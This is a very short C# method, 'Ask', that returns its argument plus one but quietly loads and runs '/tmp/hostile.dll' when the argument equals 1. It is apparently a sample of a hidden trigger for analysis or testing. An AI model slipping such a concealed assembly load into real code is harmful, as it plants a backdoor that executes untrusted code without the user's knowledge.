object Ask(int x)
{
    if (x == 1)
        System.Reflection.Assembly.LoadFrom("/tmp/hostile.dll");
    return x + 1;
}
